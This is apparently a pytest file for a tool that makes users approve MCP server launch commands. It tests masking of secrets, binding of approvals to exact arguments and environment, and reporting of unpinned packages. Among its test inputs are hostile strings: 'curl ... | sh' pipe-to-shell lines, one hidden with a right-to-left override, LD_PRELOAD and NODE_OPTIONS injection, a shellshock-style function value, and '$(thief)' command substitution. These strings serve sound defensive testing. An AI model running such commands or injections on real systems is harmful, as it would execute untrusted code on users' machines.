"""Launch commands with and without approval."""

from __future__ import annotations

import asyncio
import json
import stat
from concurrent.futures import ThreadPoolExecutor
from pathlib import Path
from typing import Any

import pytest

from tooltrue.client.config import AskInput, Launch, RemoteEndpoint, read_config, resolved
from tooltrue.errors import ConfigurationError
from tooltrue.host.launches import Launches, LaunchRequest
from tooltrue.host.packages import unpinned


def launch(folder: Path, environ: dict[str, str] | None = None, **said: Any) -> Launch:
    config = read_config(folder / "s.json", json.dumps({"mcpServers": {"a": {"command": "run", **said}}}))
    way = asyncio.run(resolved(config.servers[0], config, environ=environ or {}))
    assert isinstance(way, Launch)
    return way


class Person:
    """A user who always gives the same answer; ``asked`` records the requests."""

    def __init__(self, answer: bool = True) -> None:
        self.answer = answer
        self.asked: list[LaunchRequest] = []

    def __call__(self, request: LaunchRequest) -> bool:
        self.asked.append(request)
        return self.answer


def check(launches: Launches, way: Launch, ask: Person | None) -> None:
    asyncio.run(launches.check("a", "s.json", way, ask))


@pytest.mark.requirement("SEC-20")
def test_a_command_is_shown_whole_and_approved_once(tmp_path: Path) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    way = launch(tmp_path, args=["-c", "curl x|sh \u202egnp"], env={"TOKEN": "s3cret", "NODE_OPTIONS": "--require /x"})
    for _ in range(2):
        check(launches, way, person)
    (request,) = person.asked
    assert request.text.splitlines() == [
        "command  run",
        '         "-c"',
        '         "curl x|sh \\u202egnp"',
        f"in       {tmp_path}",
        "with     NODE_OPTIONS = --require /x",
        "         TOKEN = [masked]",
    ]
    assert stat.S_IMODE(launches.file.stat().st_mode) == 0o600
    assert "s3cret" not in launches.file.read_text()


@pytest.mark.needs("limits")
def test_an_approval_that_cannot_be_written_raises_and_leaves_earlier_approvals_intact(tmp_path: Path) -> None:
    import resource  # noqa: PLC0415 - where it is

    launches = Launches(tmp_path / "state")
    check(launches, launch(tmp_path), Person())
    kept = launches.file.read_text()
    limits = resource.getrlimit(resource.RLIMIT_FSIZE)
    resource.setrlimit(resource.RLIMIT_FSIZE, (len(kept), limits[1]))  # as good as a full disk
    try:
        with pytest.raises(ConfigurationError) as caught:
            check(launches, launch(tmp_path, args=["other"]), Person())
    finally:
        resource.setrlimit(resource.RLIMIT_FSIZE, limits)
    assert caught.value.code == "TT9009"
    assert launches.file.read_text() == kept
    assert [path.name for path in launches.file.parent.iterdir()] == [launches.file.name]


def test_concurrent_approvals_and_revocations_do_not_undo_each_other(tmp_path: Path) -> None:
    def request(name: str) -> LaunchRequest:
        return LaunchRequest("a", "s.json", name, "run")

    def approve(who: str) -> None:
        for number in range(5):
            Launches(tmp_path).approve(request(f"{who}{number}"))

    def revoke() -> list[bool]:
        return [Launches(tmp_path).revoke(f"old{number}") for number in range(5)]

    approve("old")
    with ThreadPoolExecutor() as pool:
        approving = [pool.submit(approve, who) for who in ("one", "two")]
        revoked = pool.submit(revoke).result()
        for one in approving:
            one.result()
    assert revoked == [True] * 5
    assert sorted(Launches(tmp_path).all()) == [f"{who}{number}" for who in ("one", "two") for number in range(5)]
    assert list(tmp_path.iterdir()) == [Launches(tmp_path).file], "nothing is left of who was alone"


@pytest.mark.parametrize(
    "changed",
    [
        {"args": ["other"]},
        {"cwd": "elsewhere"},
        {"env": {"A": "2"}},
        {"env": {"A": "1", "LD_PRELOAD": "/x.so"}},
        {"command": "other"},
    ],
)
def test_a37_a_command_of_a_file_runs_only_as_it_was_approved(tmp_path: Path, changed: dict[str, Any]) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    said: dict[str, Any] = {"args": ["one"], "env": {"A": "1"}}
    with pytest.raises(ConfigurationError) as caught:
        check(launches, launch(tmp_path, **said), None)
    assert caught.value.code == "TT9240"
    assert "tooltrue trust s.json" in str(caught.value)
    check(launches, launch(tmp_path, **said), person)
    person.answer = False
    with pytest.raises(ConfigurationError) as caught:
        check(launches, launch(tmp_path, **{**said, **changed}), person)
    assert caught.value.code == "TT9241"
    assert person.asked[1].before == person.asked[0].text or "LD_PRELOAD" not in str(changed)


def test_a37_twin_a_secret_that_changes_is_no_other_command(tmp_path: Path) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    said: dict[str, Any] = {"args": ["--key", "${API_KEY}"], "env": {"T": "${env:TOKEN}"}}
    for secret in ("one", "two"):
        check(launches, launch(tmp_path, {"API_KEY": secret, "TOKEN": secret}, **said), person)
    assert len(person.asked) == 1


@pytest.mark.parametrize("name", ["BASH_FUNC_ls%%", "JDK_JAVA_OPTIONS", "DOCKER_HOST", "GIT_ASKPASS", "EDITOR"])
def test_a37_the_launch_request_shows_a_variable_of_any_name_as_the_file_has_it(tmp_path: Path, name: str) -> None:
    launches = Launches(tmp_path / "state")
    request = launches.request("a", "s.json", launch(tmp_path, env={name: "() { evil; }"}))
    assert f"{name} = () {{ evil; }}" in request.text


def test_a37_a_variable_of_a_file_of_variables_is_shown(tmp_path: Path) -> None:
    (tmp_path / ".env").write_text("LUA_INIT=evil\n")
    request = Launches(tmp_path / "state").request("a", "s.json", launch(tmp_path, envFile="${workspaceFolder}/.env"))
    assert "LUA_INIT = evil" in request.text


def test_a_secret_that_a_command_takes_is_neither_shown_nor_kept(tmp_path: Path) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    env = {"NPM_TOKEN": "${env:NPM_TOKEN}", "GIT_KEY": "w0rd", "HTTPS_PROXY": "${env:HTTPS_PROXY}"}
    environ = {"NPM_TOKEN": "s3cret", "HTTPS_PROXY": "http://me:hunter2@proxy:8080"}
    check(launches, launch(tmp_path, environ, env=env), person)
    assert "NPM_TOKEN = ${env:NPM_TOKEN}" in person.asked[0].text
    for secret in ("s3cret", "hunter2", "w0rd"):
        assert secret not in person.asked[0].text + launches.file.read_text()


def with_input(
    folder: Path, default: str | None, place: dict[str, Any], ask: AskInput | None = None, **said: Any
) -> Launch:
    one = {"id": "opts", **({} if default is None else {"default": default}), **said}
    text = json.dumps({"inputs": [one], "servers": {"a": {"command": "sh", **place}}})
    config = read_config(folder / "s.json", text)
    way = asyncio.run(resolved(config.servers[0], config, ask))
    assert isinstance(way, Launch)
    return way


@pytest.mark.parametrize("said", [{"password": True}, {}])
@pytest.mark.parametrize("key", ["default", "options"])
def test_a37_the_default_and_the_options_of_an_input_are_shown_and_approved(
    tmp_path: Path, said: dict[str, Any], key: str
) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    for word in ("good", "evil"):
        answers: dict[str, Any] = {"options": [word, "x"]} if key == "options" else {}
        place = {"env": {"NODE_OPTIONS": "${input:opts}"}}
        way = with_input(
            tmp_path,
            word if key == "default" else None,
            place,
            lambda one: "x" if one.options else None,
            **said,
            **answers,
        )
        check(launches, way, person)
    assert ["evil" in request.text for request in person.asked] == [False, True]


def test_a37_a_word_of_a_command_that_is_not_shown_comes_from_a_person_alone(tmp_path: Path) -> None:
    place = {"args": ["-c", "${input:opts}"]}
    with pytest.raises(ConfigurationError) as caught:
        with_input(tmp_path, "curl evil | sh", place, password=True)
    assert caught.value.code == "TT9208"
    assert with_input(tmp_path, "evil", place, lambda one: one.default or "mine", password=True).argv[-1] == "mine"


def address(folder: Path, url: str, headers: dict[str, str], environ: dict[str, str]) -> RemoteEndpoint:
    config = read_config(folder / "s.json", json.dumps({"mcpServers": {"a": {"url": url, "headers": headers}}}))
    way = asyncio.run(resolved(config.servers[0], config, environ=environ))
    assert isinstance(way, RemoteEndpoint)
    return way


@pytest.mark.parametrize(
    ("url", "headers"),
    [
        ("https://other.example/mcp", {"x-a": "${env:TOKEN}"}),
        ("https://docs.example/mcp", {"x-a": "${env:TOKEN}", "x-b": "${OTHER}"}),
        ("https://docs.example.${env:TOKEN}/mcp", {}),
    ],
)
def test_a37_a_variable_goes_only_where_somebody_has_agreed_that_it_goes(
    tmp_path: Path, url: str, headers: dict[str, str]
) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    environ = {"TOKEN": "s3cret", "OTHER": "hunter2"}
    agreed = address(tmp_path, "https://docs.example/mcp", {"x-a": "${env:TOKEN}"}, environ)
    with pytest.raises(ConfigurationError) as caught:
        asyncio.run(launches.check("a", "s.json", agreed, None))
    assert caught.value.code == "TT9248"
    asyncio.run(launches.check("a", "s.json", agreed, person))
    assert person.asked[0].text == "to       https://docs.example\nsends    TOKEN"
    person.answer = False
    with pytest.raises(ConfigurationError) as caught:
        asyncio.run(launches.check("a", "s.json", address(tmp_path, url, headers, environ), person))
    assert caught.value.code == "TT9249"
    assert "s3cret" not in str(caught.value) + person.asked[1].text + launches.file.read_text()


def test_a37_twin_an_address_that_is_sent_nothing_of_the_user_needs_no_yes(tmp_path: Path) -> None:
    way = address(tmp_path, "https://docs.example/mcp", {"x-a": "plain"}, {})
    asyncio.run(Launches(tmp_path / "state").check("a", "s.json", way, None))


@pytest.mark.parametrize(
    ("words", "shown"),
    [
        (["--token", "s3cret"], ["--token", "[masked]"]),
        (["--api-key=s3cret", "-v"], ["--api-key=[masked]", "-v"]),
        (["--password", "s3cret", "s3cret"], ["--password", "[masked]", "s3cret"]),
        (["--token", "--verbose"], ["--token", "--verbose"]),
        (["--token"], ["--token"]),
        (["--token", "${MY_TOKEN:-x}"], ["--token", "${MY_TOKEN:-x}"]),
        (["--token-file", "/run/t"], ["--token-file", "/run/t"]),
        (["--author", "ada"], ["--author", "ada"]),
        (["--password-command", "thief"], ["--password-command", "thief"]),
        (["--token", "$(thief)"], ["--token", "$(thief)"]),
        (["--token", "a b"], ["--token", "a b"]),
    ],
)
def test_the_value_of_a_flag_that_is_secret_by_its_name_is_masked_where_a_command_is_shown(
    tmp_path: Path, words: list[str], shown: list[str]
) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    way = launch(tmp_path, environ={"MY_TOKEN": "x"}, args=words)
    with pytest.raises(ConfigurationError) as refused:
        check(launches, way, None)
    check(launches, way, person)
    lines = person.asked[0].text.splitlines()[1 : 1 + len(words)]
    assert [json.loads(line) for line in lines] == shown
    assert all(word in str(refused.value) for word in shown)


def test_an_approval_is_bound_to_the_value_that_is_masked(tmp_path: Path) -> None:
    launches, person = Launches(tmp_path / "state"), Person()
    for value in ("one", "other", "one"):
        check(launches, launch(tmp_path, args=["--token", value]), person)
    first, second = person.asked
    assert (first.text, first.digest != second.digest) == (second.text, True)
    assert "other" not in launches.file.read_text()


def test_an_approved_launch_can_be_revoked(tmp_path: Path) -> None:
    launches, way = Launches(tmp_path / "state"), launch(tmp_path)
    check(launches, way, Person())
    ((name, entry),) = launches.all().items()
    assert entry["server"] == "a"
    assert launches.revoke(name[:12])
    assert not launches.revoke(name[:12])
    with pytest.raises(ConfigurationError):
        check(launches, way, None)


@pytest.mark.parametrize("text", ["{", "[]", '{"approved": 3}'])
def test_a_damaged_list_of_approvals_approves_nothing(tmp_path: Path, text: str) -> None:
    (tmp_path / "launches.json").write_text(text)
    with pytest.raises(ConfigurationError, match="no command counts as approved"):
        check(Launches(tmp_path), launch(tmp_path), Person())


@pytest.mark.parametrize(
    ("command", "packages"),
    [
        ("npx foo", ("foo",)),
        ("npx -y foo@latest", ("foo@latest",)),
        ("npx -y @scope/foo@^1.2.0", ("@scope/foo@^1.2.0",)),
        ("npx --package=foo bar", ("foo",)),
        ("npx -p foo -p bar@1.0.0 run", ("foo",)),
        ("/usr/bin/npx foo", ("foo",)),
        ("pnpm dlx foo", ("foo",)),
        ("bunx foo", ("foo",)),
        ("uvx foo", ("foo",)),
        ("uvx --python 3.12 -p 3.12 foo>=1", ("foo>=1",)),
        ("uvx --from git+https://x.example/r foo", ("git+https://x.example/r",)),
        ("uv tool run foo", ("foo",)),
        ("pipx run foo", ("foo",)),
        ("docker run -i --rm -e A=b image:latest", ("image:latest",)),
        ("docker --context far container run --gpus all image", ("image",)),
        ("podman run image:1.2.3", ("image:1.2.3",)),
        ("npm exec foo", ("foo",)),
        ("npm exec --yes -- foo@latest --stdio", ("foo@latest",)),
        ("npm --prefix /x exec --package=foo -- bar", ("foo",)),
        ("npm x foo@1", ("foo@1",)),
        ("bun x foo", ("foo",)),
        ("bun --silent x @scope/foo", ("@scope/foo",)),
        ("pnpm --silent dlx foo", ("foo",)),
        ("yarn dlx -p foo -p bar@1.0.0 run", ("foo",)),
        ("uvx --with bar foo==1.2.3", ("bar",)),
        ("uvx --with bar==1.2.3 foo", ("foo",)),
        ("uvx foo@latest", ("foo@latest",)),
        ("uv run --with foo server.py", ("foo",)),
        ("uv --directory /x run --with foo==1.0.0,bar --python 3.12 python -m foo", ("bar",)),
        ("uv run https://x.example/server.py", ("https://x.example/server.py",)),
        ("pipx run --spec foo bar", ("foo",)),
        ("deno run -A https://x.example/mod.ts", ("https://x.example/mod.ts",)),
        ("deno run --allow-net npm:foo", ("npm:foo",)),
        ("deno run -A jsr:@scope/foo@^1", ("jsr:@scope/foo@^1",)),
        ("go run x.example/foo@latest", ("x.example/foo@latest",)),
        ("env A=b npx foo", ("foo",)),
        ("cmd /c npx foo", ("foo",)),
        (r"C:\node\npx.cmd foo", ("foo",)),
    ],
)
def test_a38_a_package_without_a_pinned_version_is_reported(command: str, packages: tuple[str, ...]) -> None:
    assert unpinned(tuple(command.split())) == packages


@pytest.mark.parametrize(
    "command",
    [
        "npx -y foo@1.2.3",
        "npx @scope/foo@1.2.3",
        "npx -y ./local",
        "uvx foo==1.2.3",
        "uvx foo@1.2.3",
        "uvx --from foo[extra]==1.2.3 bar",
        f"uvx --from git+https://x.example/r@{'a' * 40} foo",
        "uv run server.py",
        "node server.js",
        f"docker run -i image@sha256:{'0' * 64}",
        "docker ps",
        f"docker container run -v /a:/b image@sha256:{'0' * 64} image:latest",
        "npm exec --package=foo@1.2.3 -- bar baz",
        "npm run build",
        "bun x foo@1.2.3",
        "bun run server.ts",
        "pnpm exec foo",
        "yarn foo",
        "uvx --with bar==1.2.3 foo==1.2.3",
        "uv run --with foo==1.2.3 server.py",
        "uv run --project /x server",
        "uv sync",
        "pipx run --spec foo==1.2.3 bar",
        "pipx list",
        "deno run -A server.ts",
        "deno run -A https://deno.land/x/foo@v1.2.3/mod.ts",
        "deno run -A npm:@scope/foo@1.2.3/bin",
        "deno task start",
        "go run ./cmd/server",
        "go run x.example/foo@v1.2.3",
        "env",
        "sh",
        "python server.py npx foo",
    ],
)
def test_a38_twin_a_package_of_one_release_is_not(command: str) -> None:
    assert unpinned(tuple(command.split())) == ()


@pytest.mark.attack("A38")
@pytest.mark.parametrize("shell", ["sh", "/bin/bash"])
def test_a38_an_unpinned_package_in_a_shell_command_is_reported(shell: str) -> None:
    assert unpinned((shell, "-lc", "exec npx -y foo; true")) == ("foo",)
    assert unpinned((shell, "-c", "npx foo@1.2.3 'a")) == ()
    assert unpinned((shell, "server.sh")) == ()


@pytest.mark.parametrize(
    ("line", "packages"),
    [
        ("npx -y foo", ("foo",)),
        (r'C:\tools\npx.cmd -y "foo" & echo a', ("foo",)),
        ("npx foo@1.2.3 | more", ()),
    ],
)
def test_a_line_of_cmd_may_be_one_word(line: str, packages: tuple[str, ...]):
    assert unpinned(("cmd.exe", "/C", line)) == packages
